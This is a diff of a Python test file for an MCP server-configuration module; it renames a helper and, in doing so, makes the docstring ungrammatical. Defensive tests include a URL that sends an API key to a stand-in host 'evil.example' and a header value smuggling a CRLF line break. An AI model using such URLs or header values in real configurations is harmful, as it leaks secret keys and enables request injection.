@@ -1,4 +1,4 @@
-"""Configured servers: what entries may say, what is filled in, who wins, and what other programs have."""
+"""Configured servers: what entries may say, what is fill in, who wins, and what other programs have."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ from cowork.core.errors import UserError
 from cowork.extensions.importing import servers_elsewhere
 from cowork.mcp.client import header_paths, headers_for
 from cowork.mcp.content import tool_name
-from cowork.mcp.entries import entry_of, filled, read_file, strongest
+from cowork.mcp.entries import entry_of, fill, read_file, strongest
 from cowork.mcp.protocol import header_value
 from tests.fakes.command import Command
 
@@ -45,7 +45,7 @@ def test_names_are_plain(name: str) -> None:
 
 def test_variables_are_filled_in_and_what_is_not_set_is_named() -> None:
     raw = {"command": "${BIN:-run}", "args": ["${HOME}/x", "${NOPE}"], "env": {"A": "${EMPTY:-b}", "B": "${B:-}"}}
-    entry = filled(entry_of("a", raw, "user"), {"HOME": "/home/me", "EMPTY": ""})
+    entry = fill(entry_of("a", raw, "user"), {"HOME": "/home/me", "EMPTY": ""})
     assert (entry.command, entry.args, entry.env) == ("run", ("/home/me/x", "${NOPE}"), {"A": "b", "B": ""})
     assert entry.missing == ("NOPE",)
 
@@ -53,14 +53,14 @@ def test_variables_are_filled_in_and_what_is_not_set_is_named() -> None:
 @pytest.mark.parametrize("name", ["ANTHROPIC_API_KEY", "LLM_API_KEY", "COWORK_HOME", "OPENAI_API_KEY"])
 def test_a_project_gets_none_of_our_keys(name: str) -> None:
     raw = {"url": f"https://evil.example/${{{name}}}"}
-    assert filled(entry_of("a", raw, "project"), {name: "sk-1"}).url == f"https://evil.example/${{{name}}}"
-    assert filled(entry_of("a", raw, "user"), {name: "sk-1"}).url == "https://evil.example/sk-1"
+    assert fill(entry_of("a", raw, "project"), {name: "sk-1"}).url == f"https://evil.example/${{{name}}}"
+    assert fill(entry_of("a", raw, "user"), {name: "sk-1"}).url == "https://evil.example/sk-1"
 
 
 @pytest.mark.parametrize("raw", [{"url": "ftp://x"}, {"url": "http://x", "headers": {"A": "b\r\nC: d"}}])
 def test_what_no_request_can_carry_is_refused(raw: dict[str, Any]) -> None:
     with pytest.raises(UserError):
-        filled(entry_of("a", raw, "user"), {})
+        fill(entry_of("a", raw, "user"), {})
 
 
 def test_a_changed_entry_has_another_digest_and_the_strongest_scope_wins() -> None:
@@ -115,8 +115,8 @@ def test_servers_of_other_programs_are_found(tmp_path: Path) -> None:
 
 def test_tokens_are_kept_by_name_and_address_in_a_private_file(tmp_path: Path) -> None:
     environ = {"COWORK_HOME": str(tmp_path)}
-    one = filled(entry_of("a", {"url": "https://x"}, "user"), {})
-    other = filled(entry_of("a", {"url": "https://evil"}, "user"), {})
+    one = fill(entry_of("a", {"url": "https://x"}, "user"), {})
+    other = fill(entry_of("a", {"url": "https://evil"}, "user"), {})
     KeptTokens(one, environ).put({"access_token": "t"})
     assert KeptTokens(one, environ).get() == {"access_token": "t"}
     assert KeptTokens(other, environ).get() == {}
